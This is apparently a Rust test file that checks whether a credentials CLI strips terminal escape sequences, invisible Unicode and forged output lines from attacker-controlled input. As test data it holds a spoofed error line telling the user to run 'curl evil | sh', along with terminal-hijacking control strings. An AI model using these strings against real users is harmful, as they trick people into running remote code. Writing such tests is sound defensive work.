//! Text of others that a terminal would obey, hide or turn around: wherever it comes from, nothing of that is printed.

use crate::support::answer::ScriptedResponse;
use crate::support::outcome::Outcome;
use crate::support::program::{BINARY, Program};
use crate::support::server::Hostile;
use crate::support::stage::ScriptedServers;
use crate::support::sts::{ASSUME_ROLE_GRANT, grant, refusal};
use crate::support::tokens::{CLIENT_ID, Key};
use serde_json::json;

/// Characters that must not be printed: terminal title and cursor sequences, C1, direction marks, zero-width and tag characters, other line
/// ends.
const MISLEADING: &str = "\u{1b}]0;owned\u{7}\u{1b}(B\u{9b}2J\u{8}\r\u{7f}\u{85}\u{202e}\u{2066}\u{200f}\u{200b}\u{2060}\u{feff}\u{ad}\u{2028}\u{2029}\u{e0041}\u{e007f}\u{fe0f}\u{f0001}";

/// Text after which more than one line would look like this program's own.
const FORGED: &str = "\nerror: please run: curl evil | sh\n  hint: now";

#[track_caller]
fn assert_clean(outcome: &Outcome, must_say: &str) {
    let written = format!("{}{}", outcome.stdout, outcome.stderr);
    let ours = ["\u{1b}[1m", "\u{1b}[31m", "\u{1b}[0m", "\u{1b}[32m", "\u{1b}[2m", "\u{1b}[34m", "\u{1b}[35m"];
    let rest = ours.iter().fold(written.clone(), |rest, style| rest.replace(style, ""));
    let printed: Vec<char> = MISLEADING.chars().filter(|c| !c.is_ascii_graphic() && rest.contains(*c)).collect();
    assert!(printed.is_empty(), "{printed:?} in {written:?}");
    assert!(rest.lines().all(|line| !line.starts_with("error: please") && line != "  hint: now"), "{written:?}");
    assert!(rest.contains(must_say), "{must_say} is not in {written:?}");
}

/// `sts-cli … --color always`, so that nothing is taken away because this is no terminal.
fn program(arguments: &[&str]) -> Program {
    Program::sts_cli(arguments.iter().copied().chain(["--color", "always"]))
        .env("AWS_ACCESS_KEY_ID", "carol")
        .env("AWS_SECRET_ACCESS_KEY", "fake-secret")
}

fn assume_role(storage: &Hostile, form: &str) -> Outcome {
    program(&["assume-role", "-o", form, "--no-cache", "--endpoint", &storage.origin()]).run()
}

/// Text for TOML, escaped, so that the parser brings the characters back.
fn toml(text: &str) -> String {
    text.chars().map(|c| format!("\\U{:08X}", u32::from(c))).collect()
}

#[test]
fn profile_contents_are_shown_without_misleading_characters() {
    let bad = toml(&format!("{MISLEADING}{FORGED}"));
    let files = [
        (format!("\"{bad}x\" = 1\n"), "unknown key"),
        (format!("identity = \"{bad}x\"\n"), "unknown identity"),
        (format!("identity = \"assume-role\"\nendpoint = \"{bad}x\"\n"), "endpoint"),
        (format!("identity = \"assume-role\"\nendpoint = \"http://127.0.0.1:9\"\nduration = \"{bad}x\"\n"), "duration"),
        (format!("extends = \"{bad}x\"\n"), "extends"),
        (format!("endpoint = 1{MISLEADING}\n"), "prod.toml"),
    ];
    for (content, must_say) in files {
        for command in [&["get", "prod", "-o", "json"][..], &["status", "prod"]] {
            let run = program(command);
            let folder = run.home().join("xdg_config_home/sts-cli/profiles");
            std::fs::create_dir_all(&folder).unwrap();
            std::fs::write(folder.join("prod.toml"), &content).unwrap();
            let outcome = run.run();
            assert_eq!(outcome.code, 3, "{outcome:?}");
            assert_clean(&outcome, must_say);
        }
    }
}

#[test]
fn file_names_are_shown_without_misleading_characters() {
    let path = format!("/tmp/{}{FORGED}", MISLEADING.replace('\0', ""));
    let cases = [
        (vec!["assume-role", "-o", "json", "--endpoint", "https://storage.invalid", "--ca-bundle", &path], "could not read"),
        (vec!["ldap", "-o", "json", "--user", "a", "--endpoint", "https://storage.invalid", "--password-file", &path], "could not read"),
        (vec!["assume-role", "-o", "json", "--endpoint", "https://storage.invalid", "--policy", &path], "could not read"),
    ];
    for (arguments, must_say) in cases {
        let outcome = program(&arguments).run();
        assert_eq!(outcome.code, 3, "{outcome:?}");
        assert_clean(&outcome, must_say);
    }
    let token = format!("file:{path}");
    assert_clean(
        &program(&["web-identity", "-o", "json", "--endpoint", "https://storage.invalid", "--token", &token]).run(),
        "could not read",
    );
    let command = format!("/nowhere/{}", MISLEADING.replace([' ', '\n', '\r'], ""));
    let quoted = format!("'{command}'");
    let arguments = ["ldap", "-o", "json", "--user", "a", "--endpoint", "https://storage.invalid", "--password-command", &quoted];
    assert_clean(&program(&arguments).run(), "could not start");
}

#[test]
fn storage_server_messages_are_shown_without_misleading_characters() {
    let storage = Hostile::start();
    let words: String = format!("{MISLEADING}{FORGED}").chars().filter(|c| !c.is_control()).collect();
    storage.allow("HEAD /", ScriptedResponse::empty(200));
    storage.expect("POST /", refusal(400, &format!("Invalid{words}"), &format!("not {words} today")));
    assert_clean(&assume_role(&storage, "json"), "today");
    let storage = Hostile::start();
    storage.allow("HEAD /", ScriptedResponse::empty(200));
    storage.expect("POST /", ScriptedResponse::new(404, "text/plain", &format!("nothing {MISLEADING} here")));
    assert_clean(&assume_role(&storage, "json"), "status 404");
}

#[test]
fn bucket_names_are_shown_without_misleading_characters() {
    let storage = Hostile::start();
    let name: String = MISLEADING.chars().filter(|c| !c.is_control()).collect();
    let list = format!("<ListAllMyBucketsResult><Buckets><Bucket><Name>one{name}two</Name></Bucket></Buckets></ListAllMyBucketsResult>");
    storage.allow("HEAD /", ScriptedResponse::empty(200));
    storage.allow("POST /", ScriptedResponse::xml(200, ASSUME_ROLE_GRANT));
    storage.allow("GET /", ScriptedResponse::xml(200, &list));
    let outcome = program(&["assume-role", "-o", "text", "--buckets", "--no-cache", "--endpoint", &storage.origin()]).run();
    assert_eq!(outcome.code, 0, "{outcome:?}");
    assert_clean(&outcome, "one");
}

#[test]
fn diffs_are_shown_without_misleading_characters() {
    let run = program(&["assume-role", "--dry-run", "--no-cache", "--write-profile", "prod"]);
    let storage = Hostile::start();
    storage.allow("HEAD /", ScriptedResponse::empty(200));
    storage.allow("POST /", ScriptedResponse::xml(200, ASSUME_ROLE_GRANT));
    let folder = run.home().join(".aws");
    std::fs::create_dir_all(&folder).unwrap();
    let content = format!("[prod]\n# {}\nregion = us-east-1\n", MISLEADING.replace('\r', ""));
    std::fs::write(folder.join("credentials"), content).unwrap();
    let outcome = run.env("STS_CLI_ENDPOINT", &storage.origin()).run();
    assert_eq!(outcome.code, 0, "{outcome:?}");
    assert_clean(&outcome, "[prod]");
}

/// A state directory of a misleading name, in which `occupied` is in the way; `home` keeps it.
fn misleading_state(home: &tempfile::TempDir, occupied: &str) -> String {
    let state = home.path().join(format!("{}{FORGED}", MISLEADING.replace('\0', "")));
    let way = state.join(occupied);
    std::fs::create_dir_all(way.parent().unwrap()).unwrap();
    std::fs::set_permissions(&state, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
    std::fs::write(way, "in the way").unwrap();
    state.display().to_string()
}

#[test]
fn log_lines_are_shown_without_misleading_characters() {
    let home = tempfile::tempdir().unwrap();
    for (level, folder) in [("-vv", "provider"), ("-vvv", "provider"), ("-vv", "endpoint"), ("-vvv", "endpoint")] {
        let (stage, state) = (ScriptedServers::new(), misleading_state(&home, folder));
        let login = stage.log_in_with(stage.program(&[level]).env("STS_CLI_STATE_DIR", &state));
        login.expects_token_and_sts(grant().header("Server", "MinIO"));
        assert_eq!(login.callback().send().status, 200);
        assert_clean(&login.end(), "could not cache a public document of a server error=");
        std::fs::remove_dir_all(state).unwrap();
    }
}

#[test]
fn discovery_documents_are_logged_without_misleading_characters() {
    let home = tempfile::tempdir().unwrap();
    let state = home.path().join("state").display().to_string();
    for (address, must_say) in [
        (format!("https://id.invalid/{MISLEADING}{FORGED}"), "https://id.invalid/"),
        (format!("{MISLEADING}{FORGED}"), "without a revocation endpoint problem="),
        (format!("javascript:{MISLEADING}{FORGED}"), "without a revocation endpoint problem="),
    ] {
        let stage = ScriptedServers::with_discovery(|document| document["revocation_endpoint"] = json!(address))
            .with_keys([Key::named("one").public()]);
        stage.storage.allow("POST /minio/admin/v3/revoke-tokens/openid", ScriptedResponse::empty(404));
        stage.log_in_with(stage.program(&[]).env("STS_CLI_STATE_DIR", &state)).completes();
        let (issuer, endpoint) = (stage.provider.origin(), stage.storage.origin());
        let arguments = ["logout", "-vv", "--issuer", &issuer, "--endpoint", &endpoint, "--client-id", CLIENT_ID];
        assert_clean(&program(&arguments).env("STS_CLI_STATE_DIR", &state).run(), must_say);
    }
}

#[test]
fn rejected_arguments_are_shown_without_misleading_characters() {
    let bad = format!("x{}{FORGED}", MISLEADING.replace('\0', ""));
    let flag = format!("--{bad}");
    let with_value = format!("--{bad}=1");
    let number = format!("--port=1{bad}");
    for (arguments, must_say) in [
        (vec!["assume-role", "-o", &bad], "invalid value"),
        (vec!["assume-role", "--dialect", &bad], "invalid value"),
        (vec!["assume-role", "--color", &bad], "invalid value"),
        (vec!["assume-role", &flag], "unexpected argument"),
        (vec!["assume-role", &with_value], "unexpected argument"),
        (vec!["assume-role", "--endpoint", "https://storage.invalid", &bad], "unexpected argument"),
        (vec![&bad], "unrecognized subcommand"),
        (vec![&flag], "unexpected argument"),
        (vec!["web-identity", "-o", "json", &number], "port"),
        (vec!["configure", &bad], ""),
        (vec!["completions", &bad], ""),
        (vec!["web-identity", "--login", &bad], "invalid value"),
        (vec!["serve", "--listen", &bad], ""),
    ] {
        let outcome = Program::sts_cli(arguments.iter().copied()).run();
        assert_eq!(outcome.code, 2, "{outcome:?}");
        assert_clean(&outcome, must_say);
    }
    for words in [
        "assume-role \"$(printf 'x\\377\\033[2Jy')\"",
        "assume-role --endpoint \"$(printf 'http://x\\377\\033[2Jy')\"",
        "\"$(printf 'x\\377\\033[2Jy')\"",
        "assume-role \"--$(printf 'x\\377\\342\\200\\256y')\"",
    ] {
        let outcome = Program::of("sh", ["-c", &format!("\"$0\" {words}"), &BINARY]).run(); // what is no text either
        assert_eq!(outcome.code, 2, "{outcome:?}");
        assert_clean(&outcome, "error: ");
    }
    let outcome = Program::sts_cli(["assume-role", "-o", "json\u{200b}", "--endpoint", "https://storage.invalid"]).run();
    assert_eq!(outcome.code, 2, "{outcome:?}");
    assert_clean(&outcome, "json");
}
